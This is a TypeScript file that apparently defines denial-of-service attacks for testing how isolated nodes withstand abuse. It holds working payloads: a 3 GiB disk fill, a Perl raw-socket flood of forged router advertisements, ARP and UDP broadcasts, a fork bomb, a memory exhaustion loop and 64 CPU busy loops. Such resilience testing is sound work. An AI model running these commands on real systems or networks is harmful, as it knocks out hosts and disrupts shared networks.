import type { Attack } from './attack'

/** A script that root runs in the node. */
const script = (name: string, text: string): Attack => ({
  name: `node: ${name}`,
  run: (attacker) => attacker.start(text),
})

/**
 * Frames to everybody on the link, as fast as they go: router advertisements (of a router that is none: lifetime 0), ARP
 * questions and UDP broadcasts.
 */
const frames = `exec perl -e '
my $own = pack "H12", "02000a00000a";
my $everybody = "\\xff" x 6;
my $from = pack "H32", "fe80000000000000" . "00000afffe00000a";
my $all = pack "H32", "ff02" . "0" x 27 . "1";
my $advertisement = pack "C2 n C2 n N2", 134, 0, 0, 0, 0, 0, 0, 0;
my $sum = 0;
$sum += $_ for unpack "n*", $from . $all . pack("N2", 16, 58) . $advertisement;
$sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
substr($advertisement, 2, 2) = pack "n", ~$sum & 0xffff;
my @frames = (
  pack("H12", "333300000001") . $own . pack("n N n C2", 0x86dd, 0x60000000, 16, 58, 255) . $from . $all . $advertisement,
  $everybody . $own . pack("n n2 C2 n", 0x806, 1, 0x800, 6, 4, 1) . $own . pack("N H12 N", 0x0a00000a, "0" x 12, 0x0a000063),
  $everybody . $own . pack("n C2 n3 C2 n N2", 0x800, 0x45, 0, 128, 0, 0, 64, 17, 0, 0x0a00000a, 0xffffffff) . pack("n4", 9, 9, 108, 0) . "x" x 100,
);
open my $file, "<", "/sys/class/net/eth0/ifindex" or die;
my $to = pack "S n i S C2 a8", 17, 0, int(<$file>), 0, 0, 6, $everybody;
socket my $card, 17, 3, 0 or die;
for (;;) { send $card, $_, 0, $to for @frames }
'`

export const nodeAttacks: Attack[] = [
  script('3 GiB onto the disk', 'dd if=/dev/zero of=/root/fill bs=1M count=3072'),
  script('a flood of frames', frames),
  script('a fork bomb', 'bomb() { bomb | bomb & }; bomb; sleep 600'),
  script('all memory, again and again', `while :; do perl -e '$all .= "x" x 1e6 while 1'; done`),
  script('64 busy loops', 'for one in {1..64}; do while :; do :; done & done; wait'),
]
